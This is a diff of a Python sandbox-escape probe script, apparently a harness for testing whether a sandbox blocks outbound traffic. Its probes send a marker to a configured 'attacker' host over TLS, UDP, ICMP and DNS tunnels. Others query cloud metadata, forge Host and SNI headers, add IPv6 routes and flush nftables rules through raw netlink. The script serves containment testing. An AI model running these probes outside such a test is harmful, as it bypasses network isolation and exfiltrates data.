@@ -1,23 +1,25 @@
 """The ways out, tried. Standard library only, any Python from 3.9: it runs inside sandboxes.
 
-    python3 ways_out.py one NAME      try one way, or all at once
-    python3 ways_out.py serve         read names on standard input, answer `done NAME RESULT` for each
+    python3 ways_out.py one NAME      try one way, or all at once; print `report JSON` at the end
+    python3 ways_out.py serve         read names on standard input, answer each with `report JSON` or `failed NAME WHY`
 
-What a probe prints is what the *sandbox* saw and decides nothing; what arrived at the other end does. Only the
-`kernel` probes, which never leave the machine, are judged by their own result.
+- A probe is a set of tries; each one is reported, by `PROBE/TRY`, as `sent`, `done` or `opened` (and what came back),
+  or as `refused` with the name of the error.
+- Only an error of the system is a refusal. Any other exception ends the program with a traceback and no report.
+- A report proves that the probe ran, and decides nothing else; what arrived at the other end does. Only the `kernel`
+  probes, which never leave the machine, are judged by their own report.
 """
 
 from __future__ import annotations
 
 import base64
-import contextlib
 import ctypes
+import errno
 import json
 import os
 import socket
 import ssl
 import struct
-import subprocess
 import sys
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
@@ -26,6 +28,12 @@ from typing import Any
 TARGETS: dict[str, Any] = json.loads(os.environ.get("PROBE_TARGETS", "{}"))
 WAIT = 0.6
 MARKER = str(TARGETS.get("marker", "sallyport-probe-marker")).encode()
+HOST_PORTS = (2375, 8080)
+"""Ports of the host's own services."""
+_CREATE = 0x605  # a netlink request: acknowledge, create, fail if it exists
+_ADDRESS_ERRORS = {getattr(socket, name): name for name in dir(socket) if name.startswith("EAI_")}
+
+Try = Callable[[], str]
 
 
 def tcp(address: str, port: int, data: bytes = MARKER, mark: int | None = None) -> str:
@@ -34,15 +42,22 @@ def tcp(address: str, port: int, data: bytes = MARKER, mark: int | None = None) 
     with socket.socket(family, socket.SOCK_STREAM) as sock:
         sock.settimeout(WAIT)
         if mark is not None:
-            with contextlib.suppress(OSError):
-                sock.setsockopt(socket.SOL_SOCKET, 36, mark)
+            sock.setsockopt(socket.SOL_SOCKET, 36, mark)
         sock.connect((address, port))
         sock.sendall(data)
-        return f"received {len(sock.recv(4096))} bytes"
+        return answered(sock)
+
+
+def answered(sock: socket.socket) -> str:
+    """What came back to something that was sent."""
+    try:
+        return f"sent, {len(sock.recv(4096))} bytes back"
+    except OSError as error:
+        return f"sent, {reason(error)}"
 
 
 def udp(address: str, port: int, data: bytes = MARKER) -> str:
-    """Send one datagram; nobody waits for an answer."""
+    """Send one datagram; no answer is waited for."""
     family = socket.AF_INET6 if ":" in address else socket.AF_INET
     with socket.socket(family, socket.SOCK_DGRAM) as sock:
         sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
@@ -57,7 +72,7 @@ def tls(address: str, port: int, name: str | None) -> str:
     raw = socket.create_connection((address, port), timeout=WAIT)
     with raw, context.wrap_socket(raw, server_hostname=name) as sock:
         sock.sendall(b"GET /probe HTTP/1.1\r\nHost: %s\r\n\r\n" % (name or address).encode())
-        return f"received {len(sock.recv(4096))} bytes"
+        return answered(sock)
 
 
 def resolve(name: str) -> str:
@@ -71,136 +86,114 @@ def query(name: str, kind: int = 1) -> bytes:
     return struct.pack("!HHHHHH", 4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
 
 
-def every(*attempts: Callable[[], object]) -> str:
-    """Try each; one failure does not keep the others from being tried."""
-    results = []
-    for attempt in attempts:
-        try:
-            results.append(str(attempt()))
-        except OSError as error:
-            results.append(type(error).__name__)
-    return ", ".join(results)
+def netlink(protocol: int, *messages: bytes) -> str:
+    """Send messages as one datagram to the kernel, and wait for the first acknowledgement."""
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as sock:
+        sock.settimeout(WAIT)
+        sock.send(b"".join(messages))
+        number = -struct.unpack_from("<i", sock.recv(4096), 16)[0]
+    if number:
+        raise OSError(number, os.strerror(number))
+    return "done"
 
 
-def by_name() -> str:
-    return tls(resolve(TARGETS["attacker_name"]), 443, TARGETS["attacker_name"])
+def message(kind: int, flags: int, body: bytes) -> bytes:
+    """A netlink message."""
+    return struct.pack("<IHHII", 16 + len(body), kind, flags, 1, 0) + body
 
 
-def by_address() -> str:
-    attacker = TARGETS["attacker"]
-    return every(lambda: tls(attacker, 443, None), lambda: tls(attacker, 443, TARGETS["attacker_name"]))
+def reason(error: OSError) -> str:
+    """The name of an error."""
+    if isinstance(error, socket.gaierror):
+        return _ADDRESS_ERRORS.get(error.errno or 0, "EAI")
+    if isinstance(error, ssl.SSLError):
+        return f"TLS {error.reason or type(error).__name__}"
+    if isinstance(error, socket.timeout):
+        return "ETIMEDOUT"
+    return errno.errorcode.get(error.errno or 0, type(error).__name__)
 
 
-def by_port() -> str:
-    attacker = TARGETS["attacker"]
-    return every(*[lambda port=port: tcp(attacker, port) for port in (22, 80, 8443)])
+def to_metadata(data: Callable[[], bytes]) -> Try:
+    return lambda: tcp(TARGETS["metadata"], 80, data())
 
 
-def forged_host() -> str:
-    attacker, allowed = TARGETS["attacker"], TARGETS["allowed_name"].encode()
-    named = TARGETS["attacker_name"].encode()
-    return every(
-        lambda: tcp(attacker, 80, b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % allowed),
-        lambda: tcp(attacker, 80, b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (named, allowed)),
-    )
+def to_attacker(port: int, mark: int | None = None) -> Try:
+    return lambda: tcp(TARGETS["attacker"], port, mark=mark)
 
 
-def forged_sni() -> str:
-    return every(
-        lambda: tls(TARGETS["attacker"], 443, TARGETS["allowed_name"]),
-        lambda: tls(TARGETS["attacker"], 8443, TARGETS["allowed_name"]),
-    )
+def forged_host(form: bytes) -> Try:
+    def send() -> str:
+        named, allowed = TARGETS["attacker_name"].encode(), TARGETS["allowed_name"].encode()
+        return tcp(TARGETS["attacker"], 80, form % {b"attacker": named, b"allowed": allowed})
+
+    return send
 
 
-def plain_udp() -> str:
-    return every(*[lambda port=port: udp(TARGETS["attacker"], port) for port in (53, 443, 9999)])
+def icmp(kind: int) -> Try:
+    """An echo request with a payload."""
 
-
-def quic() -> str:
-    return udp(TARGETS["attacker"], 443, base64.b64decode(TARGETS["quic_initial"]))
-
-
-def icmp() -> str:
     def checksum(data: bytes) -> int:
         total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
         total = (total >> 16) + (total & 0xFFFF)
         return ~(total + (total >> 16)) & 0xFFFF
 
-    body = struct.pack("!HH", 1, 1) + MARKER
-    packet = struct.pack("!BBH", 8, 0, 0) + body
-    packet = struct.pack("!BBH", 8, 0, checksum(packet)) + body
-    results = []
-    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
-        try:
-            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
-                sock.sendto(packet, (TARGETS["attacker"], 0))
-                results.append("sent")
-        except OSError as error:
-            results.append(type(error).__name__)
-    return ", ".join(results)
+    def send() -> str:
+        body = struct.pack("!HH", 1, 1) + MARKER
+        packet = struct.pack("!BBH", 8, 0, 0) + body
+        packet = struct.pack("!BBH", 8, 0, checksum(packet)) + body
+        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
+            sock.sendto(packet, (TARGETS["attacker"], 0))
+        return "sent"
+
+    return send
 
 
-def ipv6() -> str:
-    interface = TARGETS["interface"]
-    for name in ("all", interface):
-        with contextlib.suppress(OSError), open(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6", "w") as setting:
-            setting.write("0")
-    for command in (
-        ["addr", "add", "2606:2800:222::2/64", "dev", interface, "nodad"],
-        ["route", "add", "default", "dev", interface],
-    ):
-        with contextlib.suppress(OSError):
-            subprocess.run(["ip", "-6", *command], capture_output=True, check=False)
-    attacker = TARGETS["attacker_v6"]
-    return every(lambda: tls(attacker, 443, TARGETS["attacker_name"]), lambda: udp(attacker, 9999))
+def enable_ipv6(place: str) -> str:
+    with open(f"/proc/sys/net/ipv6/conf/{place}/disable_ipv6", "w") as setting:
+        setting.write("0")
+    return "done"
 
 
-def dns_over_tls() -> str:
-    return tls(TARGETS["attacker"], 853, TARGETS["attacker_name"])
+def ipv6_address() -> str:
+    """Give the interface an address of its own, without asking whether it is free."""
+    index = socket.if_nametoindex(TARGETS["interface"])
+    address = socket.inet_pton(socket.AF_INET6, "2606:2800:222::2")
+    body = struct.pack("<BBBBI", socket.AF_INET6, 64, 2, 0, index)
+    body += b"".join(struct.pack("<HH", 20, kind) + address for kind in (1, 2))
+    return netlink(0, message(20, _CREATE, body))
 
 
-def dns_tunnel() -> str:
-    name = f"{MARKER.hex()[:40]}.{TARGETS['tunnel_zone']}"
-    message = query(name)
-    framed = struct.pack("!H", len(message)) + message
-    servers = [TARGETS["resolver"], TARGETS["attacker"], TARGETS["dns"]]
-    return every(
-        lambda: resolve(name),
-        *[lambda server=server: udp(server, 53, message) for server in servers],
-        *[lambda server=server: udp(server, 53, query(name, 16)) for server in servers],
-        *[lambda server=server: tcp(server, 53, framed) for server in servers],
-    )
+def ipv6_route() -> str:
+    """Make the interface the way to everywhere."""
+    index = socket.if_nametoindex(TARGETS["interface"])
+    body = struct.pack("<BBBBBBBBI", socket.AF_INET6, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("<HHI", 8, 4, index)
+    return netlink(0, message(24, _CREATE, body))
 
 
-def metadata() -> str:
-    return every(
-        lambda: tcp(TARGETS["metadata"], 80, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
-        lambda: tcp(TARGETS["metadata"], 80, b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % TARGETS["allowed_name"].encode()),
-        lambda: tls(TARGETS["metadata"], 443, "rebind.bank.example"),
-    )
+def tunnel_query(kind: int = 1) -> bytes:
+    return query(tunnel_name(), kind)
 
 
-def host_ports() -> str:
-    addresses = [TARGETS["host"], "127.0.0.1", "172.17.0.1"]
-    return every(*[lambda a=address, p=port: tcp(a, p) for address in addresses for port in TARGETS["host_ports"]])
+def tunnel_name() -> str:
+    return f"{MARKER.hex()[:40]}.{TARGETS['tunnel_zone']}"
 
 
-def gateway_ports() -> str:
-    return every(*[lambda port=port: tcp(TARGETS["gateway"], port) for port in (8080, 15001, 15002, 22)])
+def tunnel_by(server: str) -> dict[str, Try]:
+    """Names with data in them, to one server."""
+
+    def framed() -> str:
+        asked = tunnel_query()
+        return tcp(TARGETS[server], 53, struct.pack("!H", len(asked)) + asked)
+
+    return {
+        f"A to the {server}": lambda: udp(TARGETS[server], 53, tunnel_query()),
+        f"TXT to the {server}": lambda: udp(TARGETS[server], 53, tunnel_query(16)),
+        f"TCP to the {server}": framed,
+    }
 
 
-def neighbour() -> str:
-    return every(
-        lambda: udp("192.0.2.2", 9999),
-        lambda: udp("192.0.2.3", 9999),
-        lambda: tcp("192.0.2.1", 44772),
-        lambda: udp("192.0.2.1", 9999),
-        lambda: raw_frame("192.0.2.2", everyone=True),
-    )
-
-
-def so_mark() -> str:
-    return every(*[lambda mark=mark: tcp(TARGETS["attacker"], 22, mark=mark) for mark in (1, 0x15001, 0x7FFFFFFF)])
+def host_port(address: str, port: int) -> Try:
+    return lambda: tcp(TARGETS["host"] if address == "host" else address, port)
 
 
 def raw_frame(destination: str, everyone: bool = False) -> str:
@@ -237,14 +230,18 @@ def raw_frame(destination: str, everyone: bool = False) -> str:
     return "sent"
 
 
-def af_packet() -> str:
-    return raw_frame(TARGETS["attacker"])
+def flush_rules() -> str:
+    """Remove every table of nftables here, as `nft flush ruleset` does."""
+    batch = struct.pack(">BBH", 0, 0, 10)
+    return netlink(12, message(0x10, 1, batch), message(0xA02, 5, bytes(4)), message(0x11, 1, batch))
 
 
-def nft_flush() -> str:
-    done = subprocess.run(["nft", "flush", "ruleset"], capture_output=True, check=False)
-    seen = every(lambda: tcp(TARGETS["attacker"], 22), lambda: udp(TARGETS["attacker"], 9999))
-    return f"nft exit {done.returncode}, {seen}"
+def after_a_flush(attempt: Try) -> Try:
+    def send() -> str:
+        flush_rules()
+        return attempt()
+
+    return send
 
 
 def af_vsock() -> str:
@@ -262,48 +259,106 @@ def io_uring() -> str:
     return "opened"
 
 
-PROBES = {
-    "by-name": by_name,
-    "by-address": by_address,
-    "by-port": by_port,
-    "forged-host": forged_host,
-    "forged-sni": forged_sni,
-    "udp": plain_udp,
-    "quic": quic,
-    "icmp": icmp,
-    "ipv6": ipv6,
-    "dns-over-tls": dns_over_tls,
-    "dns-tunnel": dns_tunnel,
-    "metadata": metadata,
-    "host-ports": host_ports,
-    "gateway-ports": gateway_ports,
-    "neighbour": neighbour,
-    "so-mark": so_mark,
-    "af-packet": af_packet,
-    "nft-flush": nft_flush,
-    "af-vsock": af_vsock,
-    "io-uring": io_uring,
+PROBES: dict[str, dict[str, Try]] = {
+    "by-name": {"TLS": lambda: tls(resolve(TARGETS["attacker_name"]), 443, TARGETS["attacker_name"])},
+    "by-address": {
+        "TLS without SNI": lambda: tls(TARGETS["attacker"], 443, None),
+        "TLS with SNI": lambda: tls(TARGETS["attacker"], 443, TARGETS["attacker_name"]),
+    },
+    "by-port": {str(port): to_attacker(port) for port in (22, 80, 8443)},
+    "forged-host": {
+        "Host": forged_host(b"GET / HTTP/1.1\r\nHost: %(allowed)s\r\n\r\n"),
+        "absolute target": forged_host(b"GET http://%(attacker)s/ HTTP/1.1\r\nHost: %(allowed)s\r\n\r\n"),
+    },
+    "forged-sni": {
+        "443": lambda: tls(TARGETS["attacker"], 443, TARGETS["allowed_name"]),
+        "8443": lambda: tls(TARGETS["attacker"], 8443, TARGETS["allowed_name"]),
+    },
+    "udp": {
+        "53": lambda: udp(TARGETS["attacker"], 53),
+        "443": lambda: udp(TARGETS["attacker"], 443),
+        "9999": lambda: udp(TARGETS["attacker"], 9999),
+    },
+    "quic": {"Initial": lambda: udp(TARGETS["attacker"], 443, base64.b64decode(TARGETS["quic_initial"]))},
+    "icmp": {"raw socket": icmp(socket.SOCK_RAW), "ping socket": icmp(socket.SOCK_DGRAM)},
+    "ipv6": {  # in this order: the former ones make way for the latter
+        "enable everywhere": lambda: enable_ipv6("all"),
+        "enable": lambda: enable_ipv6(TARGETS["interface"]),
+        "address": ipv6_address,
+        "route": ipv6_route,
+        "TLS": lambda: tls(TARGETS["attacker_v6"], 443, TARGETS["attacker_name"]),
+        "UDP": lambda: udp(TARGETS["attacker_v6"], 9999),
+    },
+    "dns-over-tls": {"TLS": lambda: tls(TARGETS["attacker"], 853, TARGETS["attacker_name"])},
+    "dns-tunnel": {
+        "resolve": lambda: f"done, {resolve(tunnel_name())}",
+        **tunnel_by("resolver"),
+        **tunnel_by("attacker"),
+        **tunnel_by("dns"),
+    },
+    "metadata": {
+        "its Host": to_metadata(lambda: b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
+        "allowed Host": to_metadata(lambda: b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % TARGETS["allowed_name"].encode()),
+        "TLS": lambda: tls(TARGETS["metadata"], 443, "rebind.bank.example"),
+    },
+    "host-ports": {
+        f"{address} {port}": host_port(address, port)
+        for address in ("host", "127.0.0.1", "172.17.0.1")
+        for port in HOST_PORTS
+    },
+    "gateway-ports": {
+        "8080": lambda: tcp(TARGETS["gateway"], 8080),
+        "15001": lambda: tcp(TARGETS["gateway"], 15001),
+        "15002": lambda: tcp(TARGETS["gateway"], 15002),
+        "22": lambda: tcp(TARGETS["gateway"], 22),
+    },
+    "neighbour": {
+        "its address": lambda: udp("192.0.2.2", 9999),
+        "broadcast": lambda: udp("192.0.2.3", 9999),
+        "its daemon": lambda: tcp("192.0.2.1", 44772),
+        "its gateway": lambda: udp("192.0.2.1", 9999),
+        "frames": lambda: raw_frame("192.0.2.2", everyone=True),
+    },
+    "so-mark": {f"{mark:#x}": to_attacker(22, mark) for mark in (1, 0x15001, 0x7FFFFFFF)},
+    "af-packet": {"frames": lambda: raw_frame(TARGETS["attacker"])},
+    "nft-flush": {
+        "then TCP": after_a_flush(to_attacker(22)),
+        "then UDP": after_a_flush(lambda: udp(TARGETS["attacker"], 9999)),
+    },
+    "af-vsock": {"socket": af_vsock},
+    "io-uring": {"ring": io_uring},
 }
 
 
-def attempt(name: str) -> str:
-    """Run one probe, or `all` of them at once; returns one line about what this side saw."""
+def labels(name: str) -> list[str]:
+    """What the report of one probe, or of `all`, has an entry for."""
+    return [f"{probe}/{label}" for probe in (PROBES if name == "all" else (name,)) for label in PROBES[probe]]
+
+
+def attempt(name: str) -> dict[str, str]:
+    """Run one probe, or `all` of them at once; returns what came of each try, in order."""
     if name == "all":
         with ThreadPoolExecutor(len(PROBES)) as pool:
-            return "; ".join(f"{probe}: {seen}" for probe, seen in zip(PROBES, pool.map(attempt, PROBES)))  # noqa: B905
-    try:
-        return PROBES[name]()
-    except (OSError, ssl.SSLError, subprocess.SubprocessError) as error:
-        return f"{type(error).__name__}: {str(error)[:80]}"
+            return {label: outcome for seen in pool.map(attempt, PROBES) for label, outcome in seen.items()}
+    seen = {}
+    for label, one in PROBES[name].items():
+        try:
+            seen[f"{name}/{label}"] = one()
+        except OSError as error:
+            seen[f"{name}/{label}"] = f"refused {reason(error)}"
+    return seen
 
 
 def main() -> None:
     if sys.argv[1] == "one":
-        print(attempt(sys.argv[2]))
+        print("report", json.dumps(attempt(sys.argv[2])), flush=True)
         return
     for line in sys.stdin:
         name = line.strip()
-        print(f"done {name}", attempt(name).replace("\n", " "), flush=True)
+        try:
+            print("report", json.dumps(attempt(name)), flush=True)
+        except Exception as error:  # noqa: BLE001 - the caller is told, and takes it for a failure
+            print("failed", name, repr(error).replace("\n", " "), flush=True)
 
 
 if __name__ == "__main__":
